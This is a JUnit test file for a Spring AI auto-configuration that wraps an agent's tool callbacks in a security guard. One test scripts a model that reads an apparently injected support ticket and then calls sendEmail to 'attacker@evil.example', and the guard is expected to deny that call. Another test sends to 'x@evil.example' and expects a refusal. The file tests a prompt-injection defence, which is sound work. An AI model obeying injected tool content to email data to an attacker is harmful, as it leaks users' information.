package io.ape.springai;

import static org.assertj.core.api.Assertions.assertThat;

import io.ape.api.ApeConfigurationException;
import io.ape.springai.autoconfigure.ApeSpringAiAutoConfiguration;
import io.ape.springai.internal.EngineSeam;
import io.ape.springai.internal.GuardedToolCallbackProvider;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.springframework.ai.chat.client.ChatClient;
import org.springframework.ai.support.ToolCallbacks;
import org.springframework.ai.tool.ToolCallback;
import org.springframework.ai.tool.ToolCallbackProvider;
import org.springframework.ai.tool.method.MethodToolCallbackProvider;
import org.springframework.boot.autoconfigure.AutoConfigurations;
import org.springframework.boot.test.context.runner.ApplicationContextRunner;
import org.springframework.context.annotation.Bean;
import org.springframework.context.annotation.Configuration;

/** The Spring Boot auto-configuration, in a real application context. */
class ApeSpringAiAutoConfigurationTest {
  private final ApplicationContextRunner runner = new ApplicationContextRunner()
      .withConfiguration(AutoConfigurations.of(ApeSpringAiAutoConfiguration.class));

  static final TicketTools TOOLS = new TicketTools(TicketTools.INJECTED);

  static ToolCallback named(String name) {
    for (ToolCallback c : ToolCallbacks.from(TOOLS)) {
      if (c.getToolDefinition().name().equals(name)) {
        return c;
      }
    }
    throw new IllegalArgumentException(name);
  }

  @Configuration(proxyBeanMethods = false)
  static class App {
    final FakeEngine engine = new FakeEngine();

    App() {
      engine.trustedParameters.put("sendEmail", Set.of("to"));
      engine.openSession("s-1");
    }

    @Bean
    EngineSeam engine() {
      return engine;
    }

    @Bean
    ToolCallback sendEmail() {
      return named("sendEmail");
    }

    @Bean
    ToolCallbackProvider ticketTools() {
      return MethodToolCallbackProvider.builder().toolObjects(TOOLS).build();
    }
  }

  @Test
  void everyToolCallbackAndProviderBeanIsGuarded() {
    runner.withUserConfiguration(App.class).run(context -> {
      assertThat(context).hasNotFailed();
      assertThat(context.getBean("sendEmail").toString()).isEqualTo("ApeGuarded[sendEmail]");
      ToolCallbackProvider provider = context.getBean(ToolCallbackProvider.class);
      assertThat(provider).isInstanceOf(GuardedToolCallbackProvider.class);
      assertThat(provider.getToolCallbacks()).extracting(Object::toString)
          .containsExactlyInAnyOrder("ApeGuarded[getTicket]", "ApeGuarded[sendEmail]");
      assertThat(context).hasSingleBean(ApeUserMessageAdvisor.class);
    });
  }

  @Test
  void aChatClientUsingTheBeansIsGuardedEndToEnd() {
    runner.withUserConfiguration(App.class).run(context -> {
      FakeEngine engine = (FakeEngine) context.getBean(EngineSeam.class);
      ScriptedChatModel model = new ScriptedChatModel()
          .callTool("getTicket", "{\"id\":\"4711\"}")
          .callTool("sendEmail", "{\"to\":\"attacker@evil.example\",\"subject\":\"x\","
              + "\"body\":\"y\"}")
          .answer("done");
      TOOLS.sent.clear();
      try (ApeSessionScope scope = ApeSessionScope.open(engine.sessions.get("s-1"))) {
        String answer = ChatClient.create(model).prompt()
            .advisors(context.getBean(ApeUserMessageAdvisor.class))
            .user("Read ticket 4711 and tell bob@acme.com")
            .toolCallbacks(context.getBean(ToolCallbackProvider.class))
            .toolContext(Map.of("app", "demo"))
            .call().content();
        assertThat(answer).isEqualTo("done");
      }
      assertThat(TOOLS.sent).isEmpty();
      assertThat(model.toolResponses().get(1).responseData())
          .isEqualTo("APE denied this tool call: it is not permitted by the security policy.");
    });
  }

  @Test
  void withoutAnEngineTheApplicationDoesNotStart() {
    runner.withBean("sendEmail", ToolCallback.class, () -> named("sendEmail"))
        .run(context -> {
          assertThat(context).hasFailed();
          assertThat(context.getStartupFailure()).rootCause()
              .isInstanceOf(ApeConfigurationException.class)
              .hasMessageContaining("no APE engine is configured");
        });
  }

  @Test
  void guardingCanOnlyBeTurnedOffExplicitly() {
    runner.withUserConfiguration(App.class).withPropertyValues("ape.spring-ai.enabled=false")
        .run(context -> {
          assertThat(context).hasNotFailed();
          assertThat(context.getBean("sendEmail").toString()).doesNotContain("ApeGuarded");
        });
  }

  @Test
  void theRefusalModeIsAProperty() {
    runner.withUserConfiguration(App.class).withPropertyValues("ape.spring-ai.refusal-mode=abort")
        .run(context -> {
          FakeEngine engine = (FakeEngine) context.getBean(EngineSeam.class);
          ToolCallback send = (ToolCallback) context.getBean("sendEmail");
          try (ApeSessionScope scope = ApeSessionScope.open(engine.sessions.get("s-1"))) {
            org.assertj.core.api.Assertions.assertThatThrownBy(() -> send.call(
                "{\"to\":\"x@evil.example\",\"subject\":\"s\",\"body\":\"b\"}"))
                .isInstanceOf(ApeToolRefusedException.class);
          }
        });
  }
}
